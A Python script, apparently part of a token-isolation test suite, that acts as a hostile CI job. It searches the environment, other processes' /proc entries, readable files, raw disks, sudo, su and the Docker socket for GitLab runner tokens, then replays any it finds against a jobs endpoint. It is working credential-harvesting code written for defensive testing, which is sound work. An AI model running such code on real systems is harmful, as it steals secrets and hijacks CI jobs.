"""A hostile CI job: look for a GitLab runner token by every route a job has, then use what it finds.

Run by the token-isolation test as the job's script, with the system's python3 (standard library
only), as whatever user the runner runs jobs as. It prints one line, `RF-THIEF-REPORT <json>`.
Routes: its own environment; every process's environ, cmdline and memory under /proc; every file
it can read under the usual places (configs, cloud-init's and the Azure agent's copies, logs,
temporary files, home directories); raw disks and the provisioning CD; privilege: sudo, su, the
Docker socket. Every token-shaped string found is then tried on `POST /api/v4/jobs/request`.
"""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
import urllib.error
import urllib.request
from typing import Any

TOKEN = re.compile(rb"glrt-[A-Za-z0-9_-]{20,}")
# Places a job can look into on purpose: scanning them is the point, not a temporary file's use.
ROOTS = ("/etc", "/var", "/run", "/tmp", "/opt", "/home", "/root", "/mnt", "/srv", "/dev/shm")  # noqa: S108
MAX_FILE_BYTES = 1 << 20
DEVICES = ("/dev/sr0", "/dev/cdrom", "/dev/sda", "/dev/sda1", "/dev/vda", "/dev/vda1", "/dev/nvme0n1")

found: dict[str, str] = {}
report: dict[str, Any] = {"uid": os.getuid(), "euid": os.geteuid(), "groups": os.getgroups()}


def scan(data: bytes, where: str) -> None:
    for match in TOKEN.findall(data):
        found.setdefault(match.decode(), where)


def read(path: str, limit: int = MAX_FILE_BYTES) -> bytes | None:
    try:
        with open(path, "rb") as handle:
            return handle.read(limit)
    except OSError:
        return None


def probe_environment() -> None:
    scan("\n".join(f"{k}={v}" for k, v in os.environ.items()).encode(), "environment")
    report["environment_keys"] = sorted(os.environ)


def probe_proc() -> None:
    others = readable = mem_opened = 0
    for pid in (p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
        try:
            owner = os.stat(f"/proc/{pid}").st_uid
        except OSError:
            continue
        if owner != os.getuid():
            others += 1
        for name in ("environ", "cmdline"):
            data = read(f"/proc/{pid}/{name}")
            if data is not None:
                readable += 1 if owner != os.getuid() and name == "environ" else 0
                scan(data, f"/proc/{pid}/{name}")
        try:
            with open(f"/proc/{pid}/mem", "rb"):
                mem_opened += 1 if owner != os.getuid() else 0
        except OSError:
            pass
    report["proc"] = {
        "other_users_processes": others,
        "other_users_environ_readable": readable,
        "other_users_mem_opened": mem_opened,
    }


def probe_files() -> None:
    files = denied = 0
    for root in ROOTS:
        for directory, dirs, names in os.walk(root, onerror=lambda _: None):
            dirs[:] = [d for d in dirs if not os.path.islink(os.path.join(directory, d))]
            for name in names:
                path = os.path.join(directory, name)
                if not os.path.isfile(path) or os.path.islink(path):
                    continue
                data = read(path)
                if data is None:
                    denied += 1
                    continue
                files += 1
                scan(data, path)
    report["files"] = {"read": files, "denied": denied}


def probe_devices() -> None:
    report["devices_readable"] = [d for d in DEVICES if os.path.exists(d) and read(d, 4096) is not None]


def probe_privilege() -> None:
    def runs(command: list[str]) -> bool:
        try:
            done = subprocess.run(
                command, stdin=subprocess.DEVNULL, capture_output=True, timeout=10, check=False
            )
        except (OSError, subprocess.TimeoutExpired):
            return False
        return done.returncode == 0

    docker = False
    for path in ("/var/run/docker.sock", "/run/docker.sock"):
        if os.path.exists(path):
            with socket.socket(socket.AF_UNIX) as client:
                try:
                    client.connect(path)
                    docker = True
                except OSError:
                    pass
    report["privilege"] = {
        "sudo": runs(["sudo", "-n", "true"]),
        "su": runs(["su", "-c", "true", "root"]),
        "docker_socket": docker,
        "root_home_listable": os.access("/root", os.R_OK),
    }


def use_what_was_found(gitlab_url: str) -> None:
    attempts = []
    for token, where in found.items():
        body = json.dumps({"token": token, "info": {"name": "thief"}}).encode()
        # Only ever the test's GitLab simulator on loopback.
        request = urllib.request.Request(  # noqa: S310
            f"{gitlab_url}/api/v4/jobs/request", data=body, headers={"Content-Type": "application/json"}
        )
        try:
            with urllib.request.urlopen(request, timeout=10) as response:  # noqa: S310
                status, payload = response.status, response.read()
        except urllib.error.HTTPError as error:
            status, payload = error.code, b""
        taken = json.loads(payload).get("id") if status == 201 else None
        attempts.append({"where": where, "status": status, "job_taken": taken})
    report["attempts"] = attempts


def main() -> None:
    gitlab_url = sys.argv[1].rstrip("/")
    probe_environment()
    probe_proc()
    probe_files()
    probe_devices()
    probe_privilege()
    use_what_was_found(gitlab_url)
    report["tokens_found"] = {token[:9] + "...": where for token, where in found.items()}
    report["found_full"] = sorted(found)
    print("RF-THIEF-REPORT " + json.dumps(report), flush=True)


if __name__ == "__main__":
    main()
